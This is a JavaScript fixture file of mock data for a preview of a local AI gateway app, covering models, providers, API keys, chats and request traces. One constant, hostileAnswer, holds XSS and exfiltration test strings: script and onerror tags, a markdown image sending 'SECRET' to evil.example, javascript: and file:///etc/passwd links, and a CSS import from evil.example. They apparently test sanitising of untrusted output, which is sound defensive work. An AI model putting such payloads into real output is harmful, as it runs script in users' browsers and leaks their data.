// What the preview's daemon knows: enough of everything to see every screen full.
const now = Date.now()
const minute = 60_000
const hour = 60 * minute
const day = 24 * hour

const usage = (input, cached, output) => ({
  input: { total: input, noCache: input - cached, cacheRead: cached, cacheWrite5m: 0, cacheWrite1h: 0 },
  output: { total: output, text: output, reasoning: 0 }
})
const priced = (usd) => ({ kind: 'priced', nanoUsd: Math.round(usd * 1e9), source: 'models.dev' })

export const models = [
  ['openai/gpt-5.2', 'OpenAI', 400_000],
  ['openai/gpt-5.2-mini', 'OpenAI', 400_000],
  ['openrouter/anthropic/claude-sonnet-5', 'OpenRouter', 1_000_000],
  ['openrouter/google/gemini-3-flash', 'OpenRouter', 1_048_576],
  ['openrouter/qwen/qwen3-coder', 'OpenRouter', 262_144],
  ['on-device/qwen3-4b-q4_k_m', 'On this machine', 32_768]
].map(([id, providerName, contextTokens]) => {
  const slash = id.indexOf('/')
  const providerId = id.slice(0, slash)
  const onDevice = providerId === 'on-device'
  return {
    id,
    providerId,
    providerName,
    name: id.slice(slash + 1),
    onDevice,
    contextTokens,
    priced: !id.includes('coder'),
    abilities: { tools: true, json: true, vision: !id.includes('qwen'), reasoning: id.includes('5') }
  }
})

export const providers = [
  {
    id: 'openai',
    kind: 'openai',
    name: 'OpenAI',
    baseUrl: 'https://api.openai.com/v1',
    hasKey: true,
    keyCount: 1,
    options: {},
    pricing: 'auto',
    models: ['gpt-5.2', 'gpt-5.2-mini'],
    createdAt: now - 20 * day,
    lastTest: { ok: true, at: now - 3 * hour, message: 'works', latencyMs: 412 }
  },
  {
    id: 'openrouter',
    kind: 'openrouter',
    name: 'OpenRouter',
    baseUrl: 'https://openrouter.ai/api/v1',
    hasKey: true,
    keyCount: 3,
    options: {},
    pricing: 'auto',
    models: ['anthropic/claude-sonnet-5', 'google/gemini-3-flash', 'qwen/qwen3-coder'],
    createdAt: now - 9 * day,
    lastTest: {
      ok: false,
      at: now - hour,
      message: 'The server answered 401: “No auth credentials found”. Check the key.',
      latencyMs: null
    }
  }
]

export const localModels = [
  {
    id: 'qwen3-4b-q4_k_m',
    name: 'Qwen3 4B',
    path: '/home/ada/models/qwen3-4b-q4_k_m.gguf',
    sizeBytes: 2_497_280_256,
    origin: 'added',
    architecture: 'qwen3',
    parameters: 4_022_468_096,
    quantization: 'Q4_K_M',
    contextTokens: 32_768,
    hasChatTemplate: true,
    state: 'loaded',
    problem: null
  },
  {
    id: 'llama-3.2-1b',
    name: 'Llama 3.2 1B Instruct',
    path: '/home/ada/models/llama-3.2-1b.gguf',
    sizeBytes: 807_694_464,
    origin: 'folder',
    architecture: 'llama',
    parameters: 1_235_814_432,
    quantization: 'Q4_K_M',
    contextTokens: 131_072,
    hasChatTemplate: true,
    state: 'broken',
    problem: 'The file ends before its last tensor does. Download it again.'
  }
]

export const keys = [
  ['Continue (VS Code)', 'hp_7f3a', 12 * day, 20 * minute],
  ['Nightly notes digest', 'hp_c01e', 30 * day, 9 * hour],
  ['Scratch script', 'hp_e9b2', 2 * day, null]
].map(([name, prefix, age, used], index) => ({
  id: `k${index}`,
  name,
  prefix,
  createdAt: now - age,
  lastUsedAt: used === null ? null : now - used,
  revokedAt: null,
  limits: {
    requestsPerMinute: index === 0 ? 60 : null,
    tokensPerMinute: index === 0 ? 200_000 : null,
    onDeviceOnly: index === 1
  }
}))

export const settings = {
  appearance: 'system',
  defaultModel: 'openrouter/anthropic/claude-sonnet-5',
  quickPromptShortcut: 'CommandOrControl+Shift+Space',
  recordBodies: true,
  cache: { enabled: true, ttlSeconds: 86_400, maxMegabytes: 200 },
  onboardingDone: true
}

export const info = (port) => ({
  version: '0.1.0',
  pid: 4242,
  port,
  dataDir: '/home/ada/.local/share/homeport',
  modelsDir: '/home/ada/.local/share/homeport/models',
  headless: true,
  paused: false,
  secrets: {
    backend: 'key-file',
    description:
      'Keys are in a file only your account can read. Anyone who can read your files can read them too.',
    keychainProblem: 'no Secret Service is running.'
  },
  notices: [],
  inferenceBackend: 'CPU'
})

export const discovered = [
  {
    id: 'ollama',
    name: 'Ollama',
    baseUrl: 'http://127.0.0.1:11434/v1',
    models: ['qwen3:8b', 'gemma3:4b'],
    alreadyAdded: false
  }
]

export const answer = `Over ten years the **Nordvent 9** comes out lowest, about €1,400 below the next one, because it keeps its efficiency at the 50 °C flow your radiators need.

| Offer | Installed | Power, 10 y | Total |
|---|--:|--:|--:|
| **Nordvent 9** | **€14,900** | **€9,200** | **€24,100** |
| Aerlo Compact | €12,700 | €12,800 | €25,500 |
| Brisa 8S | €13,950 | €12,300 | €26,250 |

Two things could change this:

1. The Aerlo quote leaves out the hydraulic balancing that the others include.
2. You noted in March that the living room may get floor heating, which would favour the Brisa.

The comparison in three lines, with \`price\` per kWh as a parameter ([method](https://example.com/method)):

\`\`\`python
def total(installed: float, kwh: float, price: float = 0.31) -> float:
    """Ten years of power on top of the installation."""
    return installed + 10 * kwh * price
\`\`\``

export const hostileAnswer = `<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>

![a chart](https://evil.example/?d=SECRET) and ![inline](data:text/html,<script>alert(1)</script>)

[a safe link](https://example.com/) [click](javascript:window.__pwned=1) [file](file:///etc/passwd) [data](data:text/html,x)

<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><style>@import url(https://evil.example/x.css);body{display:none}</style>

\`\`\`html "><img src=x onerror=window.__pwned=1>
<img src=x onerror="window.__pwned=1">
\`\`\``

let number = 0
const id = (prefix) => `${prefix}-${String(++number).padStart(6, '0')}`

function message(chatId, parentId, role, text, extra = {}) {
  return {
    id: id('m'),
    chatId,
    parentId,
    role,
    text,
    reasoning: '',
    status: 'complete',
    error: null,
    info: null,
    createdAt: now - 2 * hour + number,
    ...extra
  }
}

const facts = (model, traceId, firstTokenMs, durationMs, tokens, cost) => ({
  info: { model, traceId, firstTokenMs, durationMs, usage: tokens, cost }
})

export function chats() {
  number = 0
  const all = new Map()
  const add = (title, age, build, model = 'openrouter/anthropic/claude-sonnet-5') => {
    const chatId = id('c')
    const messages = build(chatId)
    all.set(chatId, {
      id: chatId,
      title,
      model,
      createdAt: now - age,
      updatedAt: now - age,
      running: false,
      activeLeafId: messages.at(-1)?.id ?? null,
      messages
    })
  }
  add('Heat pump quotes compared', 2 * minute, (chatId) => {
    const q = message(
      chatId,
      null,
      'user',
      'Which of the three heat pump offers is cheapest over ten years, if I keep the old radiators?'
    )
    const old = message(
      chatId,
      q.id,
      'assistant',
      'The Aerlo Compact.',
      facts('openai/gpt-5.2-mini', traceId(3), 300, 900, usage(6102, 0, 20), priced(0.0008))
    )
    const good = message(chatId, q.id, 'assistant', answer, {
      reasoning: 'Three offers. Installed price plus ten years of power. The radiators need 50 °C.',
      ...facts(
        'openrouter/anthropic/claude-sonnet-5',
        traceId(0),
        610,
        4930,
        usage(6102, 5400, 318),
        priced(0.0113)
      )
    })
    return [q, old, good]
  })
  add('Rewrite the release notes', hour, (chatId) => {
    const q = message(chatId, null, 'user', 'Rewrite these release notes for people, not for us.')
    const a = message(chatId, q.id, 'assistant', '', {
      status: 'failed',
      error:
        'OpenRouter refused the call: “insufficient credits”. Add credits there, or choose another model.'
    })
    return [q, a]
  })
  add('Markdown from a stranger', 3 * hour, (chatId) => {
    const q = message(chatId, null, 'user', 'Summarise https://evil.example for me.')
    return [
      q,
      message(
        chatId,
        q.id,
        'assistant',
        hostileAnswer,
        facts('on-device/qwen3-4b-q4_k_m', traceId(4), 90, 1900, usage(80, 0, 60), { kind: 'free' })
      )
    ]
  })
  add('Lisbon in four days', 4 * day, (chatId) => {
    const q = message(chatId, null, 'user', 'Four days in Lisbon with a six-year-old?')
    return [
      q,
      message(chatId, q.id, 'assistant', 'Start in Alfama, before the', {
        status: 'stopped',
        ...facts('openai/gpt-5.2', traceId(1), 700, 1200, null, { kind: 'unknown' })
      })
    ]
  })
  add('Interview questions, backend', 5 * day, () => [])
  add('Two thousand messages', 40 * day, (chatId) => {
    const messages = []
    for (let turn = 0; turn < 1000; turn++) {
      const q = message(chatId, messages.at(-1)?.id ?? null, 'user', `Question ${turn + 1}: and then?`)
      const a = message(
        chatId,
        q.id,
        'assistant',
        turn % 7 === 0 ? answer : `Answer ${turn + 1}. ${'It goes on. '.repeat(turn % 23)}`
      )
      messages.push(q, a)
    }
    return messages
  })
  return all
}

function traceId(index) {
  return `0199${String(index).padStart(28, '0')}`
}

const calls = [
  [
    'Heat pump quotes compared',
    'Chat',
    'openrouter/anthropic/claude-sonnet-5',
    'ok',
    4930,
    610,
    usage(6102, 5400, 318),
    priced(0.0113),
    null
  ],
  [
    'fix flaky websocket test',
    'Claude Code',
    'openrouter/anthropic/claude-sonnet-5',
    'ok',
    21_300,
    900,
    usage(41_200, 38_000, 1310),
    priced(0.084),
    null
  ],
  [
    'complete: export async function',
    'Continue (VS Code)',
    'on-device/qwen3-4b-q4_k_m',
    'aborted',
    800,
    120,
    usage(900, 0, 22),
    { kind: 'free' },
    null
  ],
  [
    'summarise inbox',
    'Scratch script',
    'openai/gpt-5.2',
    'error',
    6000,
    null,
    null,
    { kind: 'unknown' },
    '429 from OpenAI: rate limit reached'
  ],
  [
    'translate menu to Portuguese',
    'Quick prompt',
    'on-device/qwen3-4b-q4_k_m',
    'ok',
    1900,
    90,
    usage(80, 0, 60),
    { kind: 'free' },
    null
  ],
  [
    'nightly digest of 31 notes',
    'Nightly notes digest',
    'openai/gpt-5.2-mini',
    'cut',
    48_000,
    1100,
    usage(88_000, 0, 2900),
    priced(0.0297),
    'The server broke off in the middle of the answer'
  ]
]

export function traces() {
  return Array.from({ length: 260 }, (_, index) => {
    const [title, app, model, status, durationMs, firstTokenMs, tokens, cost, errorMessage] =
      calls[index % calls.length]
    return {
      id: traceId(index),
      startedAt: now - index * 7 * minute,
      durationMs,
      firstTokenMs,
      status,
      app,
      dialect: 'openai',
      model,
      providerId: model.split('/')[0],
      title,
      usage: tokens,
      cost,
      stream: true,
      errorMessage
    }
  })
}

export function traceDetails(trace) {
  const span = (name, kind, start, duration, extra = {}) => ({
    id: name,
    parentId: null,
    name,
    kind,
    startUs: start,
    durationUs: duration,
    status: 'ok',
    note: null,
    firstTokenUs: null,
    ...extra
  })
  const total = trace.durationMs * 1000
  const failed = trace.status === 'error'
  const spans = [
    span('authorise', 'stage', 200, 300),
    span('resolve', 'stage', 700, 1100, { note: trace.model }),
    span(`chat ${trace.model.split('/').pop()}`, 'provider', 2400, total - 9000, {
      status: failed ? 'error' : 'ok',
      note: failed ? trace.errorMessage : '74 tok/s',
      firstTokenUs: trace.firstTokenMs === null ? null : trace.firstTokenMs * 1000
    }),
    span('settle', 'stage', total - 5000, 900, { note: 'ledger and trace written' })
  ]
  const request = {
    model: trace.model,
    stream: true,
    messages: [
      { role: 'system', content: 'You help with decisions about a house.' },
      {
        role: 'user',
        content:
          'Which of the three heat pump offers is cheapest over ten years, if I keep the old radiators?'
      }
    ]
  }
  return {
    ...trace,
    spans,
    warnings: trace.status === 'ok' ? ['logit_bias was dropped: the engine does not know it'] : [],
    requestBody: JSON.stringify(request),
    responseBody: failed ? '{"error":{"message":"Rate limit reached","type":"rate_limit_error"}}' : answer,
    bodiesTruncated: false
  }
}
